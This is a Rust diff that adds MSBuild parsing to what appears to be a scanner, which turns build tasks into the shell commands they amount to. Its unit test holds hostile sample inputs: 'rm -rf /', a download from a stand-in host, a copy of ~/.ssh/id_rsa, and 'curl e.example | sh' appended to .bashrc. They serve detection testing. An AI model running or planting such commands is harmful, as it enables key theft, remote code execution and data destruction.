@@ -82,6 +82,7 @@ pub(super) fn commands(language: Language, text: &str) -> Vec<ConfigCommand> {
         Language::Requirements => Some(requirements(text)),
         Language::CMake => Some(cmake(text)),
         Language::Maven => Some(maven(text)),
+        Language::MsBuild => Some(msbuild(text)),
         Language::Ansible => yaml(text).map(|d| ansible(&d, text)),
         _ => None,
     }
@@ -2172,6 +2173,194 @@ fn maven(text: &str) -> Vec<ConfigCommand> {
     out
 }
 
+/// MSBuild's tasks that run or change things, as the command lines they amount to: `Exec`'s
+/// `Command`, `RemoveDir` and `Delete`, `DownloadFile`, `Copy`, and `WriteLinesToFile`
+/// (appending, unless `Overwrite="true"`). Property references are put in as the shell's:
+/// the project's own directories as `.`, any other `$(NAME)` as the variable `$NAME` (MSBuild
+/// reads environment variables as properties); `%XX` escapes are decoded.
+fn msbuild(text: &str) -> Vec<ConfigCommand> {
+    static COMMENT: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"(?s)<!--.*?-->").expect("static regex"));
+    static TASK: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?s)<(Exec|RemoveDir|Delete|DownloadFile|Copy|WriteLinesToFile)\b((?:[^>\x22']|\x22[^\x22]*\x22|'[^']*')*?)/?>")
+            .expect("static regex")
+    });
+    let text = COMMENT.replace_all(text, |c: &regex::Captures| {
+        "\n".repeat(c[0].matches('\n').count())
+    });
+    static PROPERTY: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"<([A-Za-z_][\w.-]*)(?:\s[^>]*)?>([^<]*)</([A-Za-z_][\w.-]*)>")
+            .expect("static regex")
+    });
+    let text = text.as_ref();
+    let line_at = |pos: usize| text[..pos].matches('\n').count() + 1;
+    // The properties the file sets (the first value of each), over the build's defaults.
+    let mut props: HashMap<String, String> = MSBUILD_DEFAULTS
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    let mut set: std::collections::HashSet<String> = std::collections::HashSet::new();
+    let mut rest = text;
+    while let Some(s) = rest.find("<PropertyGroup") {
+        let Some(e) = rest[s..].find("</PropertyGroup>") else {
+            break;
+        };
+        for c in PROPERTY.captures_iter(&rest[s..s + e]) {
+            if c[1] == c[3] && set.insert(c[1].to_string()) {
+                props.insert(c[1].to_string(), xml_text(&c[2]).replace('\\', "/"));
+            }
+        }
+        rest = &rest[s + e..];
+    }
+    let mut out = Vec::new();
+    for m in TASK.captures_iter(text) {
+        let at = m.get(0).map_or(0, |g| g.start());
+        let attrs = &m[2];
+        let attr = |name: &str| xml_attribute(attrs, name).map(|v| msbuild_value(&v, &props));
+        // Item lists are `;`-separated paths, which MSBuild writes with either slash.
+        let items = |name: &str| -> Vec<String> {
+            attr(name)
+                .map(|v| {
+                    v.replace('\\', "/")
+                        .split(';')
+                        .map(str::trim)
+                        .filter(|s| !s.is_empty())
+                        .map(cmake_word)
+                        .collect()
+                })
+                .unwrap_or_default()
+        };
+        let command = match &m[1] {
+            "Exec" => match attr("Command") {
+                Some(c) => c,
+                None => continue,
+            },
+            "RemoveDir" => {
+                let dirs = items("Directories");
+                if dirs.is_empty() {
+                    continue;
+                }
+                format!("rm -rf {}", dirs.join(" "))
+            }
+            "Delete" => {
+                let files = items("Files");
+                if files.is_empty() {
+                    continue;
+                }
+                format!("rm -f {}", files.join(" "))
+            }
+            "DownloadFile" => match (attr("SourceUrl"), attr("DestinationFolder")) {
+                (Some(url), Some(dir)) => {
+                    let name = attr("DestinationFileName")
+                        .unwrap_or_else(|| url.rsplit('/').next().unwrap_or("download").into());
+                    format!(
+                        "curl -o {} {}",
+                        cmake_word(&format!("{dir}/{name}")),
+                        cmake_word(&url)
+                    )
+                }
+                _ => continue,
+            },
+            "Copy" => {
+                let sources = items("SourceFiles");
+                let dest = attr("DestinationFolder").or_else(|| attr("DestinationFiles"));
+                match (sources.is_empty(), dest) {
+                    (false, Some(d)) => format!("cp {} {}", sources.join(" "), cmake_word(&d)),
+                    _ => continue,
+                }
+            }
+            _ => {
+                let (Some(file), Some(lines)) = (attr("File"), attr("Lines")) else {
+                    continue;
+                };
+                let to = if attr("Overwrite").is_some_and(|o| o.eq_ignore_ascii_case("true")) {
+                    ">"
+                } else {
+                    ">>"
+                };
+                let lines: Vec<String> = lines.split(';').map(cmake_word).collect();
+                format!(
+                    "printf '%s\\n' {} {to} {}",
+                    lines.join(" "),
+                    cmake_word(&file)
+                )
+            }
+        };
+        out.push(ConfigCommand {
+            line: Some(line_at(at)),
+            section: None,
+            command,
+        });
+    }
+    out
+}
+
+/// The properties an SDK project has without setting them: its own directories (relative to
+/// the project, which is where its tasks run) and the build's output directories under it.
+const MSBUILD_DEFAULTS: &[(&str, &str)] = &[
+    ("MSBuildProjectDirectory", "."),
+    ("MSBuildThisFileDirectory", "./"),
+    ("MSBuildStartupDirectory", "."),
+    ("ProjectDir", "./"),
+    ("SolutionDir", "./"),
+    ("Configuration", "Debug"),
+    ("BaseOutputPath", "bin/"),
+    ("OutputPath", "bin/Debug/"),
+    ("OutDir", "bin/Debug/"),
+    ("TargetDir", "bin/Debug/"),
+    ("PublishDir", "bin/publish/"),
+    ("BaseIntermediateOutputPath", "obj/"),
+    ("IntermediateOutputPath", "obj/Debug/"),
+    ("MSBuildProjectName", "project"),
+    ("ProjectName", "project"),
+    ("AssemblyName", "project"),
+];
+
+/// An MSBuild attribute's text as the shell would see it (`msbuild`): `$(NAME)` is the
+/// project's property, else the environment's variable.
+fn msbuild_value(raw: &str, props: &HashMap<String, String>) -> String {
+    static PROPERTY: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"\$\(([A-Za-z_][\w.]*)\)").expect("static regex"));
+    let mut text = percent_decoded(&xml_text(raw));
+    // A property may name another; a few rounds settle any file that is not circular.
+    for _ in 0..4 {
+        if !text.contains("$(") {
+            break;
+        }
+        let next = PROPERTY
+            .replace_all(&text, |c: &regex::Captures| match props.get(&c[1]) {
+                Some(v) => v.clone(),
+                None => format!("${{{}}}", &c[1]),
+            })
+            .into_owned();
+        if next == text {
+            break;
+        }
+        text = next;
+    }
+    text
+}
+
+/// `%XX` hexadecimal escapes decoded (MSBuild's escaping of `;`, `$`, `@`, `%`…).
+fn percent_decoded(s: &str) -> String {
+    let bytes = s.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'%'
+            && let Some(hex) = s.get(i + 1..i + 3)
+            && let Ok(b) = u8::from_str_radix(hex, 16)
+        {
+            out.push(b);
+            i += 3;
+            continue;
+        }
+        out.push(bytes[i]);
+        i += 1;
+    }
+    String::from_utf8(out).unwrap_or_else(|_| s.to_string())
+}
+
 /// The value of attribute `name` among an XML tag's attributes.
 fn xml_attribute(attrs: &str, name: &str) -> Option<String> {
     let mut rest = attrs;
@@ -2758,6 +2947,37 @@ serve = { cmd = "uvicorn app:app" }
         let user =
             r#"{"projects":{"/p":{"mcpServers":{"y":{"command":"bash","args":["/tmp/y.sh"]}}}}}"#;
         assert_eq!(lines(Language::McpConfig, user), vec!["bash /tmp/y.sh"]);
+    }
+
+    #[test]
+    fn msbuild_tasks_as_commands_with_the_projects_properties() {
+        let proj = r#"<Project Sdk="Microsoft.NET.Sdk">
+  <PropertyGroup>
+    <SpaRoot>ClientApp\</SpaRoot>
+    <Tools>$(HOME)/.dotnet/tools</Tools>
+  </PropertyGroup>
+  <!-- <Exec Command="rm -rf /" /> -->
+  <Target Name="A" BeforeTargets="Build">
+    <Exec WorkingDirectory="$(SpaRoot)" Command="npm ci &amp;&amp; echo &quot;done&quot;" />
+    <RemoveDir Directories="$(SpaRoot)dist;$(BaseIntermediateOutputPath)" />
+    <Delete Files="$(OutDir)x.pdb" />
+    <DownloadFile SourceUrl="https://e.example/t.sh" DestinationFolder="$(Tools)" />
+    <Copy SourceFiles="$(HOME)/.ssh/id_rsa" DestinationFolder="out" />
+    <WriteLinesToFile File="$(HOME)/.bashrc" Lines="curl e.example %7C sh;echo hi" />
+  </Target>
+</Project>"#;
+        assert_eq!(
+            lines(Language::MsBuild, proj),
+            [
+                "npm ci && echo \"done\"",
+                "rm -rf ClientApp/dist obj/",
+                "rm -f bin/Debug/x.pdb",
+                "curl -o \"${HOME}/.dotnet/tools/t.sh\" https://e.example/t.sh",
+                "cp \"${HOME}/.ssh/id_rsa\" out",
+                "printf '%s\\n' 'curl e.example | sh' 'echo hi' >> \"${HOME}/.bashrc\"",
+            ]
+        );
+        assert_eq!(commands(Language::MsBuild, proj)[0].line, Some(8));
     }
 
     #[test]
